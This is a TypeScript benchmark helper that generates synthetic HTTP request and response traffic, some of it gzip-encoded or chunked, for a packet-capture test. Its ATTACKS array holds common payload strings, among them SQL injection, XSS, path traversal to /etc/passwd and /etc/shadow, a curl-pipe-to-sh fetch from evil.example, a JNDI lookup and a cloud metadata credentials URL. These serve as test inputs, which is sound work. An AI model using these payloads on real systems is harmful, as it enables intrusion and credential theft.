/**
 * HTTP/1.1 messages for the synthetic capture (packet.bench.ts): what a browser and a JSON
 * API send and get back. Bodies come from pools built once at start (slices of generated
 * text, a set of form and JSON bodies, a set of gzip-encoded JSON documents), so that making
 * 1 GB of traffic costs copies, not compression. Attack payloads are textbook shapes.
 */
import { gzipSync } from "node:zlib";
import { concat } from "../../src/capture/packet/build.js";

const WORDS = (
  "the product order account search cart price shipping review customer item page list " +
  "update delete create status report invoice profile settings catalog category detail " +
  "summary total amount quantity address payment method delivery return policy support"
).split(" ");

const ATTACKS = [
  "1' UNION SELECT username, password FROM users--",
  "1 OR 1=1",
  "'; DROP TABLE orders; --",
  "<script>alert(document.cookie)</script>",
  '"><img src=x onerror=alert(1)>',
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fshadow",
  "; cat /etc/passwd",
  "$(curl http://evil.example/x.sh | sh)",
  "${jndi:ldap://evil.example/a}",
  "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  "{{7*7}}${7*7}",
];

const enc = new TextEncoder();
const bytes = (s: string): Uint8Array => enc.encode(s);

/** Log-uniform integer in [lo, hi]: many small messages, a long tail of large ones. */
function logUniform(r: () => number, lo: number, hi: number): number {
  return Math.floor(Math.exp(Math.log(lo) + r() * (Math.log(hi) - Math.log(lo))));
}

export interface Request {
  readonly bytes: Uint8Array;
  readonly method: "GET" | "POST";
  /** Length of the request-target and of the body, to check the exchanges that come out. */
  readonly targetChars: number;
  readonly bodyBytes: number;
  readonly attack: boolean;
}

export interface TrafficStats {
  requests: number;
  gets: number;
  posts: number;
  attacks: number;
  chunked: number;
  gzip: number;
  targetChars: number;
  requestBodyBytes: number;
}

export const MAX_RESPONSE_BODY = 256 * 1024;

export class Traffic {
  readonly stats: TrafficStats = {
    requests: 0,
    gets: 0,
    posts: 0,
    attacks: 0,
    chunked: 0,
    gzip: 0,
    targetChars: 0,
    requestBodyBytes: 0,
  };
  private readonly text: Uint8Array;
  private readonly forms: Uint8Array[] = [];
  private readonly jsons: Uint8Array[] = [];
  private readonly gzips: Uint8Array[] = [];

  constructor(
    private readonly r: () => number,
    private readonly attackShare: number,
  ) {
    // 512 KiB of HTML-ish text; a response body is a slice of it.
    const parts: string[] = [];
    let n = 0;
    while (n < 2 * MAX_RESPONSE_BODY) {
      const s = `<div class="${this.word()}"><a href="/${this.word()}/${this.int(9999)}">${this.word()} ${this.word()}</a> ${this.word()} ${this.word()} ${this.word()}</div>\n`;
      parts.push(s);
      n += s.length;
    }
    this.text = bytes(parts.join(""));
    for (let i = 0; i < 64; i++) this.forms.push(bytes(this.form(logUniform(r, 512, 64 * 1024))));
    for (let i = 0; i < 64; i++) this.jsons.push(bytes(this.json(logUniform(r, 512, 64 * 1024))));
    // gzip bodies: JSON documents of 2 KiB-1 MiB decoded, a few times smaller on the wire.
    for (let i = 0; i < 24; i++) this.gzips.push(gzipSync(this.json(logUniform(r, 2048, 1024 * 1024))));
  }

  private int(n: number): number {
    return Math.floor(this.r() * n);
  }

  private word(): string {
    return WORDS[this.int(WORDS.length)]!;
  }

  private form(size: number): string {
    const out: string[] = [];
    let n = 0;
    for (let i = 0; n < size; i++) {
      const v = `${this.word()}+${this.word()}+${this.int(100000)}`;
      const s = `${i === 0 ? "" : "&"}${this.word()}_${i}=${v}`;
      out.push(s);
      n += s.length;
    }
    return out.join("");
  }

  private json(size: number): string {
    const items: string[] = [];
    let n = 0;
    while (n < size) {
      const s = JSON.stringify({
        id: this.int(1e9),
        name: `${this.word()} ${this.word()}`,
        price: this.int(100000) / 100,
        tags: [this.word(), this.word()],
        note: `${this.word()} ${this.word()} ${this.word()} ${this.int(1e6).toString(36)}`,
      });
      items.push(s);
      n += s.length + 1;
    }
    return `{"items":[${items.join(",")}]}`;
  }

  private attack(): string {
    return ATTACKS[this.int(ATTACKS.length)]!;
  }

  private commonHeaders(): string {
    return (
      "Host: shop.example.com\r\n" +
      "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n" +
      "Accept: text/html,application/xhtml+xml,application/json;q=0.9,*/*;q=0.8\r\n" +
      "Accept-Language: en-US,en;q=0.5\r\n" +
      "Accept-Encoding: gzip, deflate, br\r\n" +
      `Cookie: session=${this.int(2 ** 31).toString(36)}${this.int(2 ** 31).toString(36)}; theme=dark\r\n`
    );
  }

  /** A GET (`pipelinable`: never a POST, so the caller may send several back to back). */
  request(pipelinable: boolean): Request {
    const attack = this.r() < this.attackShare;
    const s = this.stats;
    s.requests++;
    if (attack) s.attacks++;
    const post = !pipelinable && this.r() < 0.35;
    let target = `/${this.word()}/${this.word()}/${this.int(100000)}`;
    if (!post || this.r() < 0.3) {
      const q: string[] = [];
      const nq = 1 + this.int(5);
      for (let i = 0; i < nq; i++) q.push(`${this.word()}=${this.word()}${this.int(1000)}`);
      if (attack && !post) q.push(`q=${encodeURIComponent(this.attack())}`);
      target += `?${q.join("&")}`;
    }
    s.targetChars += target.length;
    if (!post) {
      s.gets++;
      const head = `GET ${target} HTTP/1.1\r\n${this.commonHeaders()}\r\n`;
      return { bytes: bytes(head), method: "GET", targetChars: target.length, bodyBytes: 0, attack };
    }
    s.posts++;
    const isJson = this.r() < 0.5;
    let body: Uint8Array;
    if (attack) {
      const v = this.attack();
      body = bytes(
        isJson
          ? JSON.stringify({ id: this.int(1000), comment: v, qty: 1 })
          : `id=${this.int(1000)}&comment=${encodeURIComponent(v)}&qty=1`,
      );
    } else body = (isJson ? this.jsons : this.forms)[this.int(64)]!;
    s.requestBodyBytes += body.length;
    const type = isJson ? "application/json" : "application/x-www-form-urlencoded";
    const head = `POST ${target} HTTP/1.1\r\n${this.commonHeaders()}Content-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n`;
    return {
      bytes: concat(bytes(head), body),
      method: "POST",
      targetChars: target.length,
      bodyBytes: body.length,
      attack,
    };
  }

  /** A 200 response: identity or gzip, Content-Length or chunked, 0.2-256 KiB on the wire. */
  response(): Uint8Array {
    const gzip = this.r() < 0.25;
    const chunked = this.r() < 0.25;
    let body: Uint8Array;
    let type: string;
    if (gzip) {
      this.stats.gzip++;
      body = this.gzips[this.int(this.gzips.length)]!;
      type = "application/json";
    } else {
      const size = logUniform(this.r, 200, MAX_RESPONSE_BODY);
      const at = this.int(this.text.length - size);
      body = this.text.subarray(at, at + size);
      type = "text/html; charset=utf-8";
    }
    let head =
      "HTTP/1.1 200 OK\r\n" +
      "Date: Tue, 14 May 2024 10:00:00 GMT\r\n" +
      "Server: nginx\r\n" +
      `Content-Type: ${type}\r\n` +
      "Cache-Control: private, max-age=0\r\n" +
      (gzip ? "Content-Encoding: gzip\r\nVary: Accept-Encoding\r\n" : "");
    if (!chunked) {
      head += `Content-Length: ${body.length}\r\n\r\n`;
      return concat(bytes(head), body);
    }
    this.stats.chunked++;
    head += "Transfer-Encoding: chunked\r\n\r\n";
    const parts: Uint8Array[] = [bytes(head)];
    for (let o = 0; o < body.length; ) {
      const n = Math.min(body.length - o, 1 + this.int(16 * 1024));
      parts.push(bytes(`${n.toString(16)}\r\n`), body.subarray(o, o + n), bytes("\r\n"));
      o += n;
    }
    parts.push(bytes("0\r\n\r\n"));
    return concat(...parts);
  }
}
